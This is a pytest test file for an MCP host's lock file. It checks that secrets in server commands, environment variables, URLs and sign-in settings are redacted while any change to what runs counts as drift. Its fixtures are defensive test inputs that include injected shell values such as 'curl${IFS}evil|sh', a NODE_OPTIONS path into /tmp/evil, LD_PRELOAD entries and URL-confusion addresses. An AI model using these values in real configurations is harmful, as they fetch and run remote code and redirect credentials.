"""Tests for what the lock file records of a server: everything that decides what runs, but no possible secret."""

import re
from pathlib import Path
from typing import Any, cast

import pytest

from mcphost.config.lock_file import LockedServer
from mcphost.config.mcp_json import parse_servers
from mcphost.host.servers.lock_drift import compare_entries
from mcphost.host.servers.locked_entries import NOT_LOCKED, lock_entry
from mcphost.host.servers.project_lock import ProjectLock
from mcphost.serialization import replace

RANDOM = "Zk3vQ9xLw2Tb8RyUe5Hd"


def locked(**entry: Any) -> LockedServer:
    problems: list[str] = []
    (server,) = parse_servers({"mcpServers": {"s": entry}}, "/p/.mcp.json", "project", problems.append)
    return lock_entry(server, entry)


def without_digest(text: str) -> str:
    """Return a recorded text with `(#)` in the place of its digest."""
    return re.sub(r"\([0-9a-f]{32}\)", "(#)", text)


@pytest.mark.parametrize(
    ("arguments", "shown"),
    [
        (["--token", "abc"], ["--token", "[hidden] (#)"]),
        (["--api-key=abc"], ["--api-key=[hidden] (#)"]),
        (["--token", "${env:TOKEN}"], ["--token", "${env:TOKEN}"]),
        (["--token", "--verbose"], ["--token", "--verbose"]),
        (["--auth", "./auth.json"], ["--auth", "./auth.json"]),
        (["--header", "Authorization: Bearer ${env:A}"], ["--header", "Authorization: Bearer ${env:A}"]),
        (
            ["https://ada:${env:A}@db.example.com"],
            ["https://[secret]@db.example.com (#) (${env:A}) (https://db.example.com)"],
        ),
        (["--password=a", "token=${env:A}"], ["--password=[hidden] (#)", "token=[secret] (#) (${env:A})"]),
        (
            ["--db", "https://ada:pass@DB.example.com:81/x"],
            ["--db", "https://[secret]@DB.example.com:81/x (#) (https://db.example.com:81)"],
        ),
        (["http://a.example;token=abcdefgh"], ["http://a.example;token=[secret] (#)"]),
        ([f"http://{RANDOM}.example?token=abcdefgh"], ["http://[hidden].example?token=[secret] (#)"]),
        (["-y", "files@1.0.0", "."], ["-y", "files@1.0.0", "."]),
    ],
)
def test_secrets_in_arguments_are_hidden(arguments: list[str], shown: list[str]) -> None:
    assert [without_digest(word) for word in locked(command="run", args=arguments).command[1:]] == shown


SHELL = {"command": "sh", "args": ["-c", "cd /srv;state=ready;exec server"]}
NODE = {"command": "node", "args": ["s.js", "--token-program=helper1"]}
ADDRESS = {"url": "https://ada:pass@good.example/mcp?token=abcdefgh"}


@pytest.mark.parametrize(
    ("entry", "changed", "kind"),
    [
        (SHELL, {"args": ["-c", "cd /srv;state=ready;touch$IFS/tmp/x;exec server"]}, "command"),
        (SHELL, {"args": ["-c", "cd /srv;state=$(curl${IFS}evil|sh);exec server"]}, "command"),
        (NODE, {"args": ["s.js", "--token-program=helper2"]}, "command"),
        (
            {**NODE, "args": ["--api-key", "one-key-value"]},
            {"args": ["--api-key", "other-key-value"]},
            "command",
        ),
        (
            {"command": "uvx", "args": ["files@1.0;token=abcdefgh"]},
            {"args": ["files@1.0;token=abcdefgi"]},
            "command",
        ),
        (
            {**NODE, "env": {"NODE_OPTIONS": "--require ./token=abcdefgh"}},
            {"env": {"NODE_OPTIONS": "--require ./token=/../../../tmp/evil"}},
            "environment",
        ),
        (
            {**NODE, "env": {"GIT_ASKPASS": "a;token=abcdefgh"}},
            {"env": {"GIT_ASKPASS": "a;token=zzzzzzzzzz"}},
            "environment",
        ),
        (
            {**NODE, "env": {"API": "https://ada:pass@good.example"}},
            {"env": {"API": "https://ada:word@good.example"}},
            "environment",
        ),
        (
            {**NODE, "env": {"DB_AUTH": "host=good.example password=${env:P}"}},
            {"env": {"DB_AUTH": "host=evil.example password=${env:P}"}},
            "environment",
        ),
        (
            {**NODE, "env": {"DSN": "a;token=good.example;${env:P}"}},
            {"env": {"DSN": "a;token=evil.example;${env:P}"}},
            "environment",
        ),
        (ADDRESS, {"url": "https://evil.example?x@good.example/mcp?token=abcdefgh"}, "address"),
        (ADDRESS, {"url": "https://evil.example#x@good.example/mcp?token=abcdefgh"}, "address"),
        (ADDRESS, {"url": "https://ada:word@good.example/mcp?token=abcdefgh"}, "address"),
        (ADDRESS, {"url": "https://ada:pass@good.example/mcp?token=/../evil"}, "address"),
        (
            {**ADDRESS, "headers": {"X-Origin": "https://good.example?token=abcdefgh"}},
            {"headers": {"X-Origin": "https://good.example?token=abcdefgi"}},
            "headers",
        ),
        (
            {**ADDRESS, "headers": {"X-Token": "good ${env:A}"}},
            {"headers": {"X-Token": "evil ${env:A}"}},
            "headers",
        ),
    ],
)  # fmt: skip
def test_a_change_of_text_that_looks_like_a_secret_is_drift(
    entry: dict[str, Any], changed: dict[str, Any], kind: str
) -> None:
    assert compare_entries("s", locked(**entry), locked(**entry)) == ()
    assert [drift.kind for drift in compare_entries("s", locked(**entry), locked(**{**entry, **changed}))] == [kind]


@pytest.mark.parametrize("entry", [SHELL, {"command": "run", "args": ["--token", "abc"]}])
def test_no_text_can_pose_as_its_hidden_form(entry: dict[str, Any]) -> None:
    before = locked(**entry)
    posing = locked(command=entry["command"], args=list(before.command[1:]))
    assert [drift.kind for drift in compare_entries("s", before, posing)] == ["command"]


def test_the_host_of_an_address_is_recorded_beside_its_redacted_form() -> None:
    url = locked(url="https://ada:pass@evil.example:8443?x@good.example/mcp").url
    assert url.endswith(" (https://evil.example:8443)")
    assert "pass" not in url


def test_a_random_word_is_hidden_and_its_change_is_still_drift() -> None:
    before, after = locked(command="run", args=[RANDOM]), locked(command="run", args=[RANDOM[::-1]])
    assert RANDOM not in str(before)
    assert before.command[1].startswith("[hidden] (")
    assert [drift.kind for drift in compare_entries("s", before, after)] == ["command"]
    assert locked(command="run", args=[RANDOM]) == before


def test_an_image_is_shown_with_its_digest() -> None:
    image = f"ghcr.io/ada/files:1.0@sha256:{'0123456789abcdef' * 4}"
    server = locked(command="docker", args=["run", "-i", "--rm", "-e", "TOKEN", image])
    assert server.command[-1] == image
    assert server.package is not None
    assert server.package.digest == f"sha256:{'0123456789abcdef' * 4}"


@pytest.mark.parametrize(
    ("name", "value", "shown"),
    [
        ("MODE", "fast", NOT_LOCKED),
        ("TOKEN", "${env:TOKEN}", "${env:TOKEN}"),
        ("TOKEN", "${TOKEN:-abcdef}", "${TOKEN} (#)"),
        ("TOKEN", "x${env:TOKEN}", f"{NOT_LOCKED}${{env:TOKEN}} (#)"),
        ("TOKEN", "${odd!text}", NOT_LOCKED),
        ("AUTHORIZATION", "Bearer ${env:TOKEN}", "Bearer ${env:TOKEN}"),
        ("API", "https://api.example.com/v1", "https://api.example.com/v1"),
        (
            "API",
            "https://ada:${env:TOKEN}@api.example.com",
            "https://[secret]@api.example.com (#) (${env:TOKEN}) (https://api.example.com)",
        ),
        ("NODE_OPTIONS", "${env:NO_SUCH:---require ./x.js}", "${env:NO_SUCH:---require ./x.js}"),
        ("NODE_OPTIONS", "--require ./x.js", "--require ./x.js"),
        (
            "HTTPS_PROXY",
            "http://ada:pass@proxy.example.com",
            "http://[secret]@proxy.example.com (#) (http://proxy.example.com)",
        ),
    ],
)
def test_only_references_and_values_that_decide_what_runs_are_recorded(name: str, value: str, shown: str) -> None:
    assert without_digest(locked(command="run", env={name: value}).env[name]) == shown


def test_a_thousand_hidden_words_take_no_time() -> None:
    server = locked(command="run", args=[f"{RANDOM}{number:04}" for number in range(999)])
    assert all(word.startswith("[hidden] (") for word in server.command[1:])


@pytest.mark.parametrize(
    ("changed", "kind"),
    [
        ({"args": ["b"]}, "command"),
        ({"cwd": "sub"}, "command"),
        ({"env": {"A": "${env:B}"}}, "environment"),
        ({"envFile": ".env"}, "environment"),
    ],
)
def test_every_part_of_an_entry_has_its_kind_of_drift(changed: dict[str, Any], kind: str) -> None:
    entry: dict[str, Any] = {"command": "run", "args": ["a"], "env": {"A": "${env:A}"}}
    drifts = compare_entries("s", locked(**entry), locked(**{**entry, **changed}))
    assert [drift.kind for drift in drifts] == [kind]
    assert compare_entries("s", locked(**entry), locked(**entry)) == ()


def locked_file(folder: Path, content: str) -> LockedServer:
    (folder / "settings.env").write_text(content)
    entry = {"command": "run", "envFile": "settings.env"}
    (server,) = parse_servers({"mcpServers": {"s": entry}}, str(folder / ".mcp.json"), "project", list[str]().append)
    return lock_entry(server, entry)


def test_variables_of_the_environment_file_are_recorded_like_those_of_env(tmp_path: Path) -> None:
    content = f"TOKEN={RANDOM}\nMODE=a${{env:B}}\nLD_PRELOAD=/lib/x.so\nAPI=https://ada:pass@api.example.com\n"
    assert locked_file(tmp_path, content).env_file_variables == {
        "TOKEN": NOT_LOCKED,
        "MODE": NOT_LOCKED,
        "LD_PRELOAD": "/lib/x.so",
        "API": "https://[secret]@api.example.com (https://api.example.com)",
    }


@pytest.mark.parametrize(
    ("before", "after", "kinds"),
    [
        ("API=https://ada:pass@good.example/v1", "API=https://bob:word@good.example/v1", []),
        ("HTTPS_PROXY=http://ada:pass@good.example:81", "HTTPS_PROXY=http://bob:word@good.example:81", []),
        ("API=https://ada:pass@good.example/v1", "API=https://ada:pass@evil.example/v1", ["environment"]),
        ("API=https://ada:pass@good.example:81", "API=https://ada:pass@good.example:82", ["environment"]),
        ("API=https://good.example?token=https://a", "API=https://good.example?token=https://b", ["environment"]),
        ("API=https://good.example?token=https://[a", "API=https://good.example?token=https://[b", ["environment"]),
        ("PIP_INDEX_URL=https://ada:pass@a/index/", "PIP_INDEX_URL=https://bob:word@a/index/", []),
        ("PIP_INDEX_URL=https://ada:pass@a/index/", "PIP_INDEX_URL=https://ada:pass@b/index/", ["environment"]),
        ("PIP_INDEX_URL=https://a/?token=abcdef/", "PIP_INDEX_URL=https://a/?token=abcdeg/", ["environment"]),
        ("NODE_OPTIONS=--require ./token=abcdef", "NODE_OPTIONS=--require ./token=abcdeg", ["environment"]),
        ("SSL_CERT_FILE=/x/token=abcdef", "SSL_CERT_FILE=/x/token=abcdeg", ["environment"]),
    ],
)
def test_of_an_address_in_the_environment_file_only_the_secret_is_not_compared(
    tmp_path: Path, before: str, after: str, kinds: list[str]
) -> None:
    drifts = compare_entries("s", locked_file(tmp_path, before), locked_file(tmp_path, after))
    assert [drift.kind for drift in drifts] == kinds


@pytest.mark.parametrize(
    ("content", "kinds"),
    [
        ("TOKEN=other\nPATH=/bin\n", []),
        ("TOKEN=one\nPATH=/tmp\n", ["environment"]),
        ("TOKEN=one\nPATH=/bin\nLD_PRELOAD=/lib/x.so\n", ["environment"]),
        ("PATH=/bin\n", ["environment"]),
        ("", ["environment"]),
        ("not a variable", []),
    ],
)
def test_variables_of_the_environment_file_are_compared(tmp_path: Path, content: str, kinds: list[str]) -> None:
    before = locked_file(tmp_path, "TOKEN=one\nPATH=/bin\n")
    drifts = compare_entries("s", before, locked_file(tmp_path, content))
    assert [drift.kind for drift in drifts] == kinds


def test_a_lock_without_variables_of_the_file_differs_only_if_one_decides_what_runs(tmp_path: Path) -> None:
    old = replace(locked_file(tmp_path, ""), env_file_variables=None)
    assert compare_entries("s", old, locked_file(tmp_path, "TOKEN=one\n")) == ()
    (drift,) = compare_entries("s", old, locked_file(tmp_path, "TOKEN=one\nLD_PRELOAD=/lib/x.so\n"))
    assert drift.lines[0].endswith("lock again.")
    assert "+ envFileVariables.LD_PRELOAD: /lib/x.so" in drift.lines


HTTP: dict[str, Any] = {"url": "https://mcp.example.com/mcp", "headers": {"X-A": "Bearer ${env:A}"}}
OAUTH = {"clientId": "c", "issuer": "https://sign-in.example.com", "clientSecret": "${env:S}", "scopes": ["read"]}
INPUTS = [{"id": "t", "type": "promptString", "password": True}, {"id": "u", "type": "promptString"}]
WITH_INPUT = {**HTTP, "headers": {"X-A": "${input:t}"}, "mcphost": {"inputs": INPUTS}}


@pytest.mark.parametrize(
    ("entry", "changed", "kind"),
    [
        (HTTP, {"headers": {"X-A": "Bearer ${env:B}"}}, "headers"),
        (HTTP, {"headers": {"X-A": "Basic ${env:A}"}}, "headers"),
        (HTTP, {"mcphost": {"oauth": OAUTH}}, "sign_in"),
        (HTTP, {"url": "https://mcp.example.com/mcp?token=${env:A}"}, "address"),
        (WITH_INPUT, {"mcphost": {"inputs": [{"id": "t", "type": "promptString"}]}}, "inputs"),
        (WITH_INPUT, {"mcphost": {"inputs": [{**INPUTS[0], "description": "Your other token"}]}}, "inputs"),
    ],
)
def test_whatever_decides_who_gets_a_secret_is_compared(
    entry: dict[str, Any], changed: dict[str, Any], kind: str
) -> None:
    assert compare_entries("s", locked(**entry), locked(**entry)) == ()
    assert [drift.kind for drift in compare_entries("s", locked(**entry), locked(**{**entry, **changed}))] == [kind]


@pytest.mark.parametrize(
    "changed",
    [
        {"clientId": "d"},
        {"issuer": "https://other.example.com"},
        {"clientSecret": "${env:AWS_SECRET_ACCESS_KEY}"},
        {"clientSecret": "${env:S}x"},
        {"clientSecret": RANDOM},
        {"scopes": ["read", "write"]},
        {"grant": "enterprise"},
        {"idpTokenEndpoint": "https://other.example.com"},
        {"idToken": "${env:T}"},
        {"account": "ada"},
    ],
)
def test_every_sign_in_setting_is_compared(changed: dict[str, Any]) -> None:
    before = locked(**HTTP, mcphost={"oauth": OAUTH})
    after = locked(**HTTP, mcphost={"oauth": {**OAUTH, **changed}})
    assert [drift.kind for drift in compare_entries("s", before, after)] == ["sign_in"]
    assert RANDOM not in str(after)


def test_a_secret_of_the_sign_in_is_hidden_and_its_change_is_still_drift() -> None:
    before, after = (locked(**HTTP, mcphost={"oauth": {"key": key}}) for key in (RANDOM, RANDOM[::-1]))
    assert before.oauth["key"].startswith("[hidden] (")
    assert [drift.kind for drift in compare_entries("s", before, after)] == ["sign_in"]


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("host=a.example.com password=${env:P}", "host=b.example.com password=${env:P}"),
        ("${env:HOST:-a.example.com}", "${env:HOST:-b.example.com}"),
    ],
)
def test_text_beside_a_reference_is_not_in_the_lock_but_compared(before: str, after: str) -> None:
    one, other = (locked(command="run", env={"DSN": text}) for text in (before, after))
    assert "example.com" not in str(one)
    assert [drift.kind for drift in compare_entries("s", one, other)] == ["environment"]


RESTRICTED: dict[str, Any] = {
    "command": "run",
    "disabledTools": ["delete_*"],
    "mcphost": {"disabledTools": ["write"], "reviewResults": True, "sampling": {"depth": 1, "tokensPerMinute": 900}},
}


@pytest.mark.parametrize(
    ("entry_level", "own"),
    [
        ({}, {}),
        ({"disabledTools": []}, {}),
        ({"disabledTools": ["delete_all"]}, {}),
        ({}, {"disabledTools": None}),
        ({}, {"reviewResults": False}),
        ({}, {"sampling": {"depth": 1}}),
        ({}, {"sampling": {"depth": 2, "tokensPerMinute": 900}}),
    ],
)
def test_a_restriction_removed_or_weakened_is_drift(entry_level: dict[str, Any], own: dict[str, Any]) -> None:
    changed = {**RESTRICTED, **entry_level, "mcphost": {**RESTRICTED["mcphost"], **own}}
    kinds = ["restrictions"] if entry_level or own else []
    assert [drift.kind for drift in compare_entries("s", locked(**RESTRICTED), locked(**changed))] == kinds
    removed = compare_entries("s", locked(**RESTRICTED), locked(command="run"))
    assert [drift.kind for drift in removed] == ["restrictions"]
    assert "- reviewResults: true" in removed[0].lines


def test_the_order_of_disabled_tools_is_no_drift() -> None:
    one, other = (locked(command="run", disabledTools=names) for names in (["a", "b"], ["b", "a", "a"]))
    assert compare_entries("s", one, other) == ()


@pytest.mark.parametrize(
    ("changed", "kinds"),
    [
        ({"disabled_tools": ("delete_*", "write", "own"), "review_results": True}, []),
        ({"disabled_tools": ("write", "own")}, ["restrictions"]),
        ({"review_results": False}, ["restrictions"]),
    ],
)
def test_restrictions_of_the_users_own_entry_are_no_drift_when_it_connects(
    changed: dict[str, Any], kinds: list[str]
) -> None:
    (server,) = parse_servers({"mcpServers": {"s": RESTRICTED}}, "/p/.mcp.json", "project", list[str]().append)
    lock = ProjectLock(replace(server, **changed))
    lock.locked = lock_entry(server, RESTRICTED)
    drifts = compare_entries("s", lock.locked, lock.read_server(cast("Any", None), {}))
    assert [drift.kind for drift in drifts] == kinds


def test_a_default_of_a_password_input_is_hidden() -> None:
    inputs = [{**INPUTS[0], "default": RANDOM}]
    server = locked(**{**WITH_INPUT, "mcphost": {"inputs": inputs}})
    assert server.inputs["t"].password
    assert RANDOM not in str(server)


def test_an_unchanged_server_equals_its_record_when_it_connects(tmp_path: Path) -> None:
    authorities = tmp_path / "ca.pem"
    authorities.write_text("one")
    entry = {**WITH_INPUT, "mcphost": {"inputs": INPUTS, "oauth": OAUTH, "caFile": "ca.pem"}}
    (server,) = parse_servers({"mcpServers": {"s": entry}}, str(tmp_path / ".mcp.json"), "project", list[str]().append)
    lock = ProjectLock(server)
    lock.locked = lock_entry(server, entry)
    facts = cast("Any", None)  # not read, because the record has no tools
    assert lock.locked.ca_file == "ca.pem"
    assert lock.read_server(facts, {}) == lock.locked
    authorities.write_text("two")
    drifts = compare_entries("s", lock.locked, lock.read_server(facts, {}))
    assert [drift.kind for drift in drifts] == ["certificates"]
